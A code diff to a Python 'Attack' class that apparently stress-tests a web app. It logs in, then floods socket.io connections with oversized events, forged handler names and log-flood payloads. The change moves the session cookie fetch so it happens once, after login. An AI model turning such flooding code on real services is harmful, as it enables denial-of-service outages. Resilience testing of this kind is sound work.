@@ -54,6 +54,7 @@ class Attack:
     def __init__(self, target: Target) -> None:
         self._target = target
         self._until = time.monotonic() + target.seconds
+        self._cookie = ""
         self.counts: dict[str, collections.Counter[str]] = collections.defaultdict(collections.Counter)
 
     async def run(self) -> None:
@@ -64,9 +65,10 @@ class Attack:
             self._log_floods,
         )
         async with asyncio.timeout(self._target.seconds + 30), self._client() as client:
-            # Before the attack begins: its own unfinished bodies would leave its login no place.
+            # Before the attack begins: its own unfinished bodies would leave these requests no place.
             login = {"email": self._target.email, "password": self._target.password}
             (await client.post("/api/auth/login", json=login)).raise_for_status()
+            self._cookie = await _page_cookie(client)
             await asyncio.gather(self._flow_bombs(client), *(kind() for kind in kinds))
 
     @property
@@ -110,15 +112,13 @@ class Attack:
                 await self._pace(STARTS)
 
     async def _sockets(self) -> None:
-        async with self._client() as client:
-            cookie = await _page_cookie(client)
         # One as large as is taken, which makes a state; and one that is larger.
         event = _event(f"{_STATE}.hydrate_and_load", "a" * 1900, hashes=["b" * (LARGEST - 5000)])
         larger = _event(f"{_STATE}.hydrate_and_load", "a" * LARGEST)
 
         async def one(number: int) -> None:
             await asyncio.sleep(self._target.seconds / 3 * number / SOCKETS)
-            async with self._socket("sockets", cookie, f"?token={uuid4()}") as socket:
+            async with self._socket("sockets", f"?token={uuid4()}") as socket:
                 while socket is not None and socket.connected and self._going_on:
                     with contextlib.suppress(SocketIOError):
                         await socket.emit("event", event, namespace=_NAMESPACE)
@@ -157,8 +157,6 @@ class Attack:
         await asyncio.gather(*(one() for _ in range(BODIES)))
 
     async def _log_floods(self) -> None:
-        async with self._client() as client:
-            cookie = await _page_cookie(client)
         events: tuple[Any, ...] = (
             "x" * LARGEST,
             {"name": f"unknown.handler{_FORGED}", "payload": {"text": "x" * LARGEST}, "router_data": {}},
@@ -168,7 +166,7 @@ class Attack:
         async def one(number: int) -> None:
             query = "" if number % 4 == 0 else f"?token={uuid4()}"
             while self._going_on:
-                async with self._socket("log floods", cookie, query) as socket:
+                async with self._socket("log floods", query) as socket:
                     for event in events * 5:
                         if socket is None:
                             break
@@ -180,7 +178,7 @@ class Attack:
         await asyncio.gather(*(one(number) for number in range(FLOODERS)))
 
     @contextlib.asynccontextmanager
-    async def _socket(self, kind: str, cookie: str, query: str) -> AsyncIterator[socketio.AsyncClient | None]:
+    async def _socket(self, kind: str, query: str) -> AsyncIterator[socketio.AsyncClient | None]:
         """A connected client, or None where the server refuses."""
         connector = aiohttp.TCPConnector(local_addr=(ADDRESS, 0))
         async with aiohttp.ClientSession(connector=connector) as http:
@@ -188,7 +186,7 @@ class Attack:
             try:
                 await client.connect(
                     f"{self._target.url}{query}",
-                    headers={"Cookie": cookie, "Origin": f"http://localhost:{self._target.port}"},
+                    headers={"Cookie": self._cookie, "Origin": f"http://localhost:{self._target.port}"},
                     namespaces=[_NAMESPACE],
                     transports=["websocket"],
                     socketio_path=_NAMESPACE,
